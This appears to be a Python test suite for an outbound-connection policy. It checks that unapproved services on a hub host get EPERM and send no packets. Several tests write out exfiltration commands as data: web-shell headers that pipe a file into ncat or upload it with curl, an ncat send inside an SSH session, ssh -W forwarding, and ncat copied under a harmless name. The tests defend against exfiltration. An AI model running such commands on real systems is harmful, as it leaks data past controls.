# SPDX-License-Identifier: BSD-2-Clause OR GPL-2.0-only
"""What a service calls is refused before the first packet (S05, S07, S08, S12, S17, S20)."""
from case import HUB, MIB, NORD, STORE, STRANGERS, LabCase, far
from guard import grant, policy


class Refused(LabCase):
    servers = ("sftp", "portal")
    policy = policy([grant("nightly", "sftp", "class:hospital", serves="tcp/22"),
                     grant("archive", "batch", STORE, calls=["tcp/443", "udp/443"])], STRANGERS)

    def both_families(self):
        return ((4, "203.0.113.130"), (6, "2001:db8:bad:0::2"))

    def assert_store_reached(self, family=4):
        """The grant's own call passes: shown beside each refusal."""
        sink, address, port = self.sink(STORE, family, 443)
        self.assertEqual(self.lab.call(far.tcp_give, address, port, MIB, host="hub", service="batch"), MIB)
        sink.task.kill()

    def test_connect_to_a_stranger_gets_eperm(self):
        for family, _ in self.both_families():
            sink, address, port = self.sink("stranger", family)
            for service in ("portal", "sftp", "batch"):
                with self.subTest(family=family, service=service):
                    error = self.lab.call(far.connect_error, address, port, host="hub", service=service)
                    self.assertEqual(error, "EPERM")
            self.assertEqual(sink.connections, 0)
            self.assert_store_reached(family)

    def test_connect_from_no_named_service_gets_eperm(self):
        sink, address, port = self.sink("stranger")
        error = self.lab.call(far.connect_error, address, port, host="hub", service="session")
        self.assertEqual((error, sink.connections), ("EPERM", 0))
        self.assert_store_reached()

    def test_connect_to_a_partner_on_another_port_gets_eperm(self):
        sink, address, port = self.sink(STORE, port=444)
        error = self.lab.call(far.connect_error, address, port, host="hub", service="batch")
        self.assertEqual((error, sink.connections), ("EPERM", 0))
        self.assert_store_reached()

    def test_grant_of_one_service_is_no_grant_of_another(self):
        sink, address, port = self.sink(STORE, port=443)
        error = self.lab.call(far.connect_error, address, port, host="hub", service="portal")
        self.assertEqual((error, sink.connections), ("EPERM", 0))
        sink.task.kill()
        self.assert_store_reached()

    def test_not_one_packet_of_a_refused_call_leaves(self):
        sink, address, port = self.sink("stranger")
        count = far.Count(self.lab, "stranger")
        self.lab.call(far.connect_error, address, port, host="hub", service="portal")
        self.assertEqual((count.settle().syn, sink.connections), (0, 0))
        self.assert_store_reached()

    def test_unconnected_udp_gets_eperm(self):
        for family, _ in self.both_families():
            with self.subTest(family=family):
                sink, address, port = self.sink("stranger", family, udp=True)
                self.assertEqual(self.lab.call(far.udp_give, address, port, host="hub", service="portal"),
                                 (0, "EPERM"))
                self.assertEqual(sink.bytes, 0)
                fair, address, _ = self.sink(STORE, family, 443, udp=True)
                self.assertEqual(self.lab.call(far.udp_give, address, 443, host="hub", service="batch"),
                                 (20, None))
                fair.task.kill()

    def test_connected_udp_gets_eperm(self):
        for family, _ in self.both_families():
            with self.subTest(family=family):
                sink, address, port = self.sink("stranger", family, udp=True)
                sent, error = self.lab.call(far.udp_give, address, port, 1000, 20, True,
                                            host="hub", service="portal")
                self.assertEqual((sent, error, sink.bytes), (0, "EPERM", 0))
                fair, address, _ = self.sink(STORE, family, 443, udp=True)
                self.assertEqual(self.lab.call(far.udp_give, address, 443, 1000, 20, True,
                                               host="hub", service="batch"), (20, None))
                fair.task.kill()

    def test_web_shell_cannot_run_netcat_out(self):
        """S05: a child of the application pipes a file into ncat."""
        sink, address, port = self.sink("stranger")
        header = "X-Shell-Run: ncat --send-only %s %d < %s" % (address, port, self.lab.path("data", "night"))
        answer = far.curl(self.lab, "stranger", "https://%s/" % HUB[4], self.stranger(), headers=[header])
        self.assertEqual(answer.wait(), 0)
        with open(answer.path, encoding="utf-8") as text:
            self.assertIn("not permitted", text.read())
        self.assertEqual((sink.bytes, sink.connections), (0, 0))
        self.assert_store_reached()

    def test_web_shell_cannot_run_curl_out(self):
        """S07: to port 443 of a raw address."""
        sink, address, port = self.sink("stranger", 6, 443)
        header = "X-Shell-Run: curl -gsSk -m 3 -T %s https://[%s]:443/" % (self.lab.path("data", "night"), address)
        answer = far.curl(self.lab, "stranger", "https://%s/" % HUB[4], self.stranger(), headers=[header])
        self.assertEqual(answer.wait(), 0)
        with open(answer.path, encoding="utf-8") as text:
            self.assertNotIn("exit 0", text.read())
        self.assertEqual((sink.bytes, sink.connections), (0, 0))
        sink.task.kill()
        self.assert_store_reached()

    def test_session_of_sshd_cannot_call_out(self):
        """S08: a shell inside an approved partner's session."""
        sink, address, port = self.sink("stranger")
        done = far.ssh(self.lab, NORD, "ncat -w 2 --send-only %s %d </dev/zero; echo code $?" % (address, port),
                       HUB[4])
        self.assertIn("code 1", done.stdout)
        self.assertEqual((sink.bytes, sink.connections), (0, 0))
        self.assert_all(far.sftp_get(self.lab, NORD, "night"), "night")

    def test_forwarding_through_sshd_is_refused(self):
        """S08: ssh -W makes sshd itself connect."""
        sink, address, port = self.sink("stranger")
        self.lab.run(["ssh"] + far.ssh_options(self.lab) + ["-W", "%s:%d" % (address, port),
                                                            "transfer@" + HUB[4]], NORD, timeout=5)
        self.assertEqual((sink.bytes, sink.connections), (0, 0))
        self.assert_all(far.sftp_get(self.lab, NORD, "night"), "night")

    def test_loopback_is_exempt(self):
        """All ways to name this host: what they send never leaves it."""
        sink, address, port = self.sink("stranger")
        for own in ("127.0.0.1", "0.0.0.0", HUB[4], "::1", "::", HUB[6]):
            with self.subTest(address=own):
                port = next(self.ports)
                server = far.Sink(self.lab, "hub", "::" if ":" in own else "0.0.0.0", port, service="batch")
                self.assertEqual(self.lab.call(far.tcp_give, own, port, MIB, host="hub", service="portal"), MIB)
                server.task.kill()
                datagrams = far.Sink(self.lab, "hub", "::" if ":" in own else "0.0.0.0", port, udp=True, service="batch")
                self.assertEqual(self.lab.call(far.udp_give, own, port, host="hub", service="portal"), (20, None))
                datagrams.task.kill()
        self.assertEqual(self.lab.call(far.connect_error, address, sink.port, host="hub", service="portal"), "EPERM")

    def test_copied_binary_is_no_other(self):
        """S13: no verdict from a program's name."""
        sink, address, port = self.sink("stranger")
        done = self.lab.run(["/bin/sh", "-c", "cp /usr/bin/ncat ./backup-agent && echo x | ./backup-agent "
                             "--send-only %s %d" % (address, port)], "hub", "portal")
        self.assertNotEqual(done.returncode, 0)
        self.assertEqual((sink.bytes, sink.connections), (0, 0))
        self.assert_store_reached()
